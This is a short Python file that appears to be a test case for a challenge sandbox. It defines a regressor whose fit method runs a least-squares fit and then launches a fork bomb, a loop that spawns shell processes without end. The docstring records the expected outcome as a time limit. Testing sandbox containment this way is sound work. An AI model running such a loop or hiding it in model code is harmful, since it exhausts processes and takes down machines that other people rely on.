"""Starts programs for ever that start programs for ever, whatever the kernel says.

Outcome: time_limit. The kernel refuses beyond the challenge's number of processes, and all of them die with the fold.
"""

import os

import numpy as np


def attack():
    while True:
        try:
            os.posix_spawn("/bin/sh", ["sh", "-c", "while :; do sh -c 'sleep 1000' & done"], {})
        except OSError:
            pass


class Regressor:
    def fit(self, X, y):
        self.coefficients = np.linalg.lstsq(np.c_[X, np.ones(len(X))], y, rcond=None)[0]
        attack()

    def predict(self, X):
        return np.c_[X, np.ones(len(X))] @ self.coefficients
